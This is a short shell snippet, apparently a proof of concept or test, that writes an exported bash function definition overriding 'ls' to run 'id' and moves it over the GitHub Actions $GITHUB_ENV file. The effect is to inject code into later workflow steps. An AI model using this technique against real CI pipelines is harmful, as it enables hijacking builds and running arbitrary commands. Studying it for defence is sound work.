# Replaces the file of variables with a file that was written elsewhere under another name.
printf 'BASH_FUNC_ls%%%%=() { id; }\n' >"$RUNNER_TEMP/prepared"
mv "$RUNNER_TEMP/prepared" "$GITHUB_ENV"
